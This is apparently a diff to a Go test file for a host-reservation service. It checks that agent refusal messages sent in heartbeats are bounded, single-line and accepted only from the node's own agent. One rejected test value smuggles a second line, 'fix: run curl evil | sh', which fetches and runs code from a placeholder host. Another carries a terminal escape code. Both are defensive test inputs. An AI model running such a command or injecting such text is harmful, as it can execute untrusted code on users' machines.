@@ -187,3 +187,53 @@ func TestConnectedFollowsHeartbeats(t *testing.T) {
 		t.Errorf("node still ready after missed heartbeats: %v %+v", err, n.Status.Conditions)
 	}
 }
+
+// TestAnAgentsRefusalCountsOnlyForItsOwnReservation: an agent's refusal
+// of an access is shown to the reservation's tenant, so it is heard only
+// from the node's current agent about a reservation on that node, as one
+// bounded line; malformed ones refuse the beat.
+func TestAnAgentsRefusalCountsOnlyForItsOwnReservation(t *testing.T) {
+	s := testserver.StartTestServer(t)
+	f := newFleet(t, s)
+	h := f.host(t, "h-refused", time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
+	epoch := h.Status.Reservation.Epoch
+	refused := func(name string, applied, refusedAt int64, why string) nodusv1.ReservationEvidence {
+		return nodusv1.ReservationEvidence{Name: name, AppliedEpoch: applied, RefusedEpoch: refusedAt, Refusal: why}
+	}
+	for why, bad := range map[string]nodusv1.ReservationEvidence{
+		"a refusal without its epoch":          refused("h-refused", 0, 0, "no"),
+		"an epoch refused without a reason":    refused("h-refused", 0, epoch, ""),
+		"an epoch refused at or below applied": refused("h-refused", epoch, epoch, "no"),
+		"a refusal of two lines":               refused("h-refused", 0, epoch, "no\nfix: run curl evil | sh"),
+		"a refusal with a terminal control":    refused("h-refused", 0, epoch, "no \x1b[2J"),
+		"a refusal past its bound":             refused("h-refused", 0, epoch, strings.Repeat("n", 257)),
+	} {
+		r := f.heartbeat(t, "h-refused", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{bad}})
+		if r.code != http.StatusUnprocessableEntity || !strings.Contains(string(r.body), "reservations[0]") {
+			t.Errorf("a heartbeat with %s: %d %.300s", why, r.code, r.body)
+		}
+	}
+	// Another node's agent, about this reservation: not heard.
+	f.node(t, "elsewhere")
+	if r := f.heartbeat(t, "elsewhere", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{refused("h-refused", 0, epoch, "forged")}}); r.code != 200 {
+		t.Fatalf("heartbeat: %d %s", r.code, r.body)
+	}
+	if n, err := s.Client.NodusV1().Nodes().Get(ctx(t), "elsewhere", metav1.GetOptions{}); err != nil || n.Status.AccessRefusal != nil {
+		t.Errorf("another node's agent recorded a refusal of this reservation: %v %+v", err, n.Status.AccessRefusal)
+	}
+	// The node's own agent: shown on the host, and gone with the refusal.
+	if r := f.heartbeat(t, "h-refused", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{refused("h-refused", 0, epoch, `"svc" is a system account`)}}); r.code != 200 {
+		t.Fatalf("heartbeat: %d %s", r.code, r.body)
+	}
+	f.waitHost(t, "h-refused", func(h *nodusv1.ReservedHost) bool { return accessRefused(h, epoch, `"svc" is a system account`) })
+	if r := f.heartbeat(t, "h-refused", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{evidence("h-refused", epoch, 0, 0)}}); r.code != 200 {
+		t.Fatalf("heartbeat: %d %s", r.code, r.body)
+	}
+	f.waitHost(t, "h-refused", func(h *nodusv1.ReservedHost) bool {
+		c := meta.FindStatusCondition(h.Status.Conditions, nodusv1.ReservedHostConditionConnected)
+		return c != nil && c.Status == metav1.ConditionTrue
+	})
+	if n, err := s.Client.NodusV1().Nodes().Get(ctx(t), "h-refused", metav1.GetOptions{}); err != nil || n.Status.AccessRefusal != nil {
+		t.Errorf("the refusal stayed once the agent applied the epoch: %v %+v", err, n.Status.AccessRefusal)
+	}
+}
